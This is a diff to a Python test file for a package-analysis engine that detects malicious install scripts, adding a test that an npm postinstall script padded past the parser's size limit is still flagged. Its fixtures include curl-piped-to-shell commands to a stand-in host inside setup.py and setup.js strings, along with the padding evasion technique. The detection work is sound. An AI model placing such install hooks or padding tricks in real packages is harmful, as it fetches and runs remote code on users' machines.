@@ -1,7 +1,7 @@
 from __future__ import annotations
 
 from tests.analysis.builders import npm_tarball, run_rule, sdist, wheel
-from threatfeed.analysis import Engine, python_ast
+from threatfeed.analysis import Engine, javascript, python_ast
 from threatfeed.analysis.rules.install import suspicious_setup_commands_rule
 
 DROPPER_SETUP = """
@@ -175,4 +175,18 @@ def test_large_setup_py_is_read_whether_or_not_it_is_parsed(engine: Engine) -> N
     assert run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=untyped)) is None
     typed = padding + "import os\nos.system('curl https://x.example.net | sh')\n"
     evidence = run_rule(engine, suspicious_setup_commands_rule, sdist(setup_py=typed))
+    assert "process" in _types(evidence)
+
+
+def test_npm_install_script_padded_past_the_parse_limit_still_reports_its_calls(
+    engine: Engine,
+) -> None:
+    padding = "".join(f'var v{i} = "{i:x}{i * 7:x}";\n' for i in range(40000))
+    assert len(padding) > javascript.MAX_PARSE_BYTES
+    payload = (
+        "const cp = require('child_process');\ncp.exec('curl https://x.example.net/s | sh');\n"
+    )
+    archive = npm_tarball({"setup.js": padding + payload}, scripts={"postinstall": "node setup.js"})
+    evidence = run_rule(engine, suspicious_setup_commands_rule, archive)
+    assert evidence is not None
     assert "process" in _types(evidence)
